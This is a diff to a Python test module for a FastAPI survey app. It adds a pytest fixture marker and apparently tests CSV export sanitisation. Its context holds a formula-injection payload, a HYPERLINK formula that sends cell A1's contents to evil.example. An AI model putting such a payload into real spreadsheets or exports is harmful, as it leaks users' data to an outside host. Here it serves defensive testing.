@@ -7,6 +7,7 @@ import re
 from pathlib import Path
 from typing import Any
 
+import pytest
 from fastapi.testclient import TestClient
 from sqlalchemy.orm import Session
 
@@ -14,6 +15,11 @@ from app.core.csvfile import safe_cell
 from app.questionnaires.catalog import Catalog
 from tests.answers import body, valid_answers
 from tests.factories import make_campaign, make_counter, make_unit
+
+# The figures, not access: read live results with a key (tests/reporting/test_editions.py
+# covers what the public sees).
+pytestmark = pytest.mark.usefixtures("reader")
+
 
 APP = Path(__file__).resolve().parents[2] / "app"
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
